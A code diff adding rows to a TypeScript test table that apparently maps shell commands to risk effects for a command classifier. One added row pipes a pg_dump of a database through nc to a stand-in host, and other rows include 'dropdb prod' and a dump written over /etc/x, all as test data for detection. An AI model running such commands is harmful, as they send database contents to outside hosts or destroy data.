@@ -14,6 +14,17 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['psql -c "$SQL"', ['database:run-script dynamic']],
   ['pg_dump db > dump.sql', ['write:overwrite dump.sql', 'database:dump db']],
   ['pg_dump -f /etc/x db', ['write:overwrite /etc/x', 'database:dump db']],
+  // A dump comes from the server: nothing secret goes there, but to whom it is sent on.
+  ['pg_dump -h localhost db > dump.sql', ['write:overwrite dump.sql', 'network:connect localhost', 'database:dump db']],
+  [
+    'pg_dump -h localhost db | nc x.example 1',
+    [
+      'network:connect localhost',
+      'database:dump db',
+      'network:connect x.example:1 sensitive external',
+      'network:send x.example:1 external sensitive',
+    ],
+  ],
   ['pg_restore -c -d db a.dump', ['read:read a.dump', 'database:restore db']],
   ['pg_restore -l a.dump', ['read:read a.dump']],
   ['dropdb prod', ['database:drop database prod']],
